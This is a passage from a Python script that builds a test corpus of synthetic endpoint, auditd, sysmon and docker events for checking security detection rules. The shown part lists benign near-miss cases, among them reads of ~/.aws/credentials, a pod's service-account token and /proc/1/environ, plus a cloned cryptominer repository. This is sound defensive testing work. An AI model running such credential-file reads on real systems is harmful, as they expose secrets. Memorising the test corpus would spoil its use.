     [proc("cat", "/usr/bin/cat", ["cat", "/home/dev/.aws/credentials"], cwd="/home/dev")]),
    ("ldd-loader", B, "endpoint",
     "ldd running the dynamic loader on the program it inspects, as glibc's ldd does.", "ldd",
     [proc("ld-linux-x86-64.so.2", "/usr/lib64/ld-linux-x86-64.so.2",
           ["/lib64/ld-linux-x86-64.so.2", "--verify", "/usr/bin/python3"]),
      proc("ld-linux-x86-64.so.2", "/usr/lib64/ld-linux-x86-64.so.2",
           ["/lib64/ld-linux-x86-64.so.2", "/usr/bin/python3"], pid=4102)]),
    ("official-jenkins", B, "docker",
     "The Jenkins project's own image, jenkins/jenkins:lts.", "official-images",
     [pull("jenkins/jenkins:lts")]),
    ("official-arm64-alpine", B, "docker",
     "An official image's per-architecture build, arm64v8/alpine.", "official-images",
     [pull("arm64v8/alpine:3.19")]),
    ("k8s-api-with-pod-token", B, "endpoint",
     "The usual in-pod call to the Kubernetes API with the pod's own token.", "k8s-token",
     [proc("sh", "/bin/sh", ["sh", "-c", "curl -s --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt -H "
                                        "\"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" "
                                        "https://kubernetes.default.svc/api/v1/namespaces/default/pods"], container=C)]),
    ("curl-netrc-file", B, "auditd",
     "curl reading its credentials from a netrc file, as netrc is meant to be used.", "curl",
     [proc("curl", "/usr/bin/curl", ["curl", "--netrc-file", "/root/.netrc", "-O", "https://repo.example.com/pkg.tgz"])]),
    ("cron-env-from-proc", B, "endpoint",
     "A container entrypoint copying PID 1's environment for cron.", "k8s-token",
     [proc("cat", "/bin/cat", ["cat", "/proc/1/environ"], container=C, parent=SHIM)]),
    ("aws-configure-set-in-ci", B, "endpoint",
     "A CI job writing a secret key into the CLI's configuration.", "aws-cli-export",
     [proc("aws", "/usr/local/bin/aws", ["aws", "configure", "set", "aws_secret_access_key", "wJalrXUtnFEMI"])]),
    ("inbound-on-pool-port", B, "sysmon",
     "A service on a host's public address accepting a connection on port 3333.", "node",
     [net("node", "/usr/bin/node", "198.51.100.61", 3333, inbound=True)]),
    ("poetry-in-root-home", B, "endpoint",
     "Poetry installed in /root/.local/bin, in a container, fetching over SSH.", "git",
     [net("poetry", "/root/.local/bin/poetry", "140.82.112.4", 22, container=C)]),
    ("ntp-pool", B, "endpoint",
     "chrony resolving the NTP pool and connecting on port 123.", "ntp-pool",
     [dns("chronyd", "/usr/sbin/chronyd", "2.debian.pool.ntp.org"),
      net("chronyd", "/usr/sbin/chronyd", "162.159.200.1", 123)]),
    ("pgpool-lan", B, "endpoint",
     "An application resolving its pgpool and connecting to it on the LAN.", "pgpool",
     [dns("app", "/usr/local/bin/app", "pgpool.db.example.com"), net("app", "/usr/local/bin/app", "10.20.0.15", 9999)]),
    ("go-run-binary-443", B, "endpoint",
     "go run's binary in /tmp/go-build calling an API on 443.", "go-build",
     [net("main", "/tmp/go-build2841/b001/exe/main", "140.82.112.6", 443)]),
    ("curl-output-pool-report", B, "sysmon",
     "curl -o writing a report whose name mentions pools.", "curl",
     [proc("curl", "/usr/bin/curl", ["curl", "-o", "pool-report.csv", "https://api.example.com/pools"])]),
    ("container-smtp", B, "endpoint",
     "A container's mailer connecting to a public SMTP relay on 587.", "smtp",
     [net("java", "/opt/java/bin/java", "198.51.100.25", 587, container=C)]),
    ("git-clone-xmrig", B, "endpoint",
     "A developer cloning XMRig's source from GitHub.", "git",
     [proc("git", "/usr/bin/git", ["git", "clone", "https://github.com/xmrig/xmrig"], user="dev")]),
    ("pip-install-randomx", B, "auditd",
     "pip installing a package named randomx.", "pip",
     [proc("pip", "/usr/bin/pip", ["pip", "install", "randomx"])]),
    ("official-alpine-run", B, "docker",
     "The official alpine image pulled and started.", "official-images",
     [pull("alpine:3.19"), container("start", "alpine:3.19")]),
]


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    for old in OUT.glob("*"):
        if old.is_file():
            old.unlink()
    manifest = ["# The variation corpus: written by scripts/variations.py, do not edit by hand.",
                "# kind: malicious (rules should alert) or benign (a near-miss: no rule should).", ""]
    for index, (vid, kind, source, story, ref, specs) in enumerate(VARIATIONS):
        clock = Clock(index)
        events = [(spec[0], clock.next(), spec[1]) for spec in specs]
        text, ext = RENDER[source](events, f"{'lab' if kind == M else 'ops'}-{index:02d}")
        name = f"{vid}.{source}.{ext}"
        (OUT / name).write_text(text)
        manifest += ["[[variation]]", f'id = "{vid}"', f'kind = "{kind}"', f'source = "{source}"',
                     f'file = "{name}"', f"story = {json.dumps(story)}", f'reference = "{REFS[ref]}"', ""]
    (OUT / "manifest.toml").write_text("\n".join(manifest))
    counts = {}
    for _, kind, source, *_ in VARIATIONS:
        counts[(kind, source)] = counts.get((kind, source), 0) + 1
    print(f"{OUT}: {len(VARIATIONS)} variations")
    for key in sorted(counts):
        print(f"  {key[0]:<9} {key[1]:<10} {counts[key]}")


if __name__ == "__main__":
    main()
